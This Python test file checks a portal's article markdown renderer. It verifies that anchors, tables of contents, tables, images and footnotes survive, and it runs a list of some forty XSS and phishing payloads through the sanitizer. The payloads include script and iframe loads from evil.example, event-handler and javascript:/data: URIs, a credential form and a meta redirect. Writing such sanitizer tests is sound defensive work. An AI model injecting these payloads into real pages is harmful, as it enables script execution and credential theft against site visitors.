"""The ARTICLE profile of portal.rendering: what an article may hold (sections with
anchors, a table of contents, tables, images, footnotes) and hostile input that must not
reach the page, checked on the rendered HTML and on the public page itself."""

from html.parser import HTMLParser

import pytest

from portal.rendering import ANSWER, ARTICLE, render_article, render_markdown

from .conftest import live_article

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    '<img src=x onerror=alert(1)//">',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    '<a href="https://example.org" onmouseover="steal()">hover</a>',
    '<h2 onclick="x()">Heading</h2>',
    '<details open ontoggle="alert(1)">x</details>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](  javascript:alert(1))",
    '<a href="javascript:alert(1)">raw link</a>',
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '![a](https://x.example/a.png "<img src=x onerror=alert(1)>")',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<table style="width:9999px"><tr><td style="color:red">x</td></tr></table>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a class="btn btn--primary" href="https://evil.example/">Book now</a>',
    '<h2 id="main">Steals the skip link target</h2>',
    '<div tabindex="1" class="table-wrap">x</div>',
    '<div role="dialog" aria-label="Your bank">x</div>',
    "<!-- <script>alert(1)</script> -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


class _Inspector(HTMLParser):
    """Every tag and attribute that a browser would build from the HTML."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, name, value or "") for name, value in attrs]


def inspect(html: str) -> _Inspector:
    parser = _Inspector()
    parser.feed(html)
    return parser


FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "meta", "base", "link",
    "svg", "math", "details", "noscript", "circle", "mglyph",
}  # fmt: skip


def assert_harmless(html: str, *, page_ids: frozenset = frozenset()) -> None:
    found = inspect(html)
    assert not FORBIDDEN_TAGS & set(found.tags), found.tags
    for tag, name, value in found.attrs:
        assert not name.startswith("on"), (tag, name)
        assert name != "style", (tag, name, value)
        if name in {"href", "src"}:
            scheme = value.strip().lower().split(":", 1)[0] if ":" in value else ""
            assert scheme in {"", "http", "https", "mailto"}, (tag, name, value)
        if name == "class":
            assert value in {
                "footnote",
                "footnote-ref",
                "footnote-backref",
                "toc",
                "table-wrap",
                "table-hint",
            }
        if name == "id":
            assert value not in page_ids, value
        if name == "tabindex":
            assert value == "0"
        if name == "role":
            assert (tag, value) == ("div", "region"), (tag, value)


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_input_does_not_survive_rendering(source):
    rendered = render_article(f"Intro.\n\n{source}\n\n## Section\n\nText.")

    assert_harmless(rendered.html, page_ids=frozenset({"main", "banner-title"}))
    assert_harmless(rendered.toc_html)


@pytest.mark.django_db
def test_hostile_input_does_not_survive_into_the_page(client, publisher, specialty):
    body = "\n\n".join(["## Section one", *HOSTILE, "## Section two", "Done."])
    article = live_article(publisher, specialty=specialty, body=body)

    page = client.get(article.get_absolute_url()).content.decode()

    opening = '<div class="prose article__body">'
    body_html = page[page.index(opening) + len(opening) :]
    body_html = body_html[: body_html.index("</article>")]
    assert_harmless(body_html, page_ids=frozenset({"main", "banner-title"}))
    assert page.count('id="main"') == 1


def test_markdown_sections_get_anchors_and_a_table_of_contents():
    rendered = render_article(
        "# Overview\n\nText.\n\n## Causes\n\n### In children\n\n## Treatment\n\n## Causes"
    )

    assert '<h2 id="overview">Overview</h2>' in rendered.html  # one # is a section too
    assert '<h3 id="in-children">' in rendered.html
    assert '<h2 id="causes_1">' in rendered.html  # repeated headings stay unique
    assert "<h1" not in rendered.html
    links = [v for t, n, v in inspect(rendered.toc_html).attrs if n == "href"]
    assert links == ["#overview", "#causes", "#in-children", "#treatment", "#causes_1"]


def test_headings_in_any_language_get_anchors():
    rendered = render_article("## Sedef hastalığı nedir?\n\n## सोरायसिस क्या है?\n\nText")

    assert 'id="sedef-hastalığı-nedir"' in rendered.html
    assert rendered.toc_html.count("<a ") == 2


def test_a_short_article_has_no_table_of_contents():
    assert render_article("Just a paragraph.\n\n## One section").toc_html == ""


def test_a_heading_named_like_a_page_landmark_gets_another_anchor():
    rendered = render_article("## Main\n\n## Other")

    assert 'id="main-section"' in rendered.html and 'id="main"' not in rendered.html


def test_tables_lists_links_images_and_footnotes_survive():
    rendered = render_article(
        "| Where | Cost |\n|:--|--:|\n| India | ₹1 lakh |\n\n"
        "- one\n- two\n\n1. first\n\n"
        "See [NICE](https://www.nice.org.uk/guidance/cg153) and [our page](/blog/).\n\n"
        "![A plaque on an elbow](https://example.org/elbow.jpg)\n\n"
        "A claim.[^1]\n\n[^1]: The source."
    )
    html = rendered.html

    assert (
        '<p class="table-hint">Scroll sideways to see the whole table →</p>'
        '<div aria-label="Table, scrolls sideways" class="table-wrap" role="region" '
        'tabindex="0"><table>'
    ) in html
    assert '<th align="left">Where</th>' in html and '<td align="right">₹1 lakh</td>' in html
    assert "<ul>" in html and "<ol>" in html
    assert '<a href="https://www.nice.org.uk/guidance/cg153" rel="nofollow noopener">' in html
    assert '<a href="/blog/">our page</a>' in html
    assert 'alt="A plaque on an elbow"' in html and 'loading="lazy"' in html
    assert '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>' in html
    assert '<li id="fn:1">' in html and 'class="footnote-backref"' in html
    assert "nofollow" not in html[html.index('<div class="footnote">') :]


def test_word_count_counts_text_not_markup():
    rendered = render_article("## Two words\n\n**Three more words** [link](https://x.example)")

    assert rendered.word_count == 6


def test_the_answer_profile_is_not_loosened():
    for source in ("## Heading", "| a |\n|--|\n| b |", "![x](https://x.example/a.png)"):
        html = render_markdown(source)
        assert "<h2" not in html and "<table" not in html and "<img" not in html
    assert {"h2", "table", "img"} <= ARTICLE.tags
    assert not {"h2", "table", "img", "div", "sup"} & ANSWER.tags
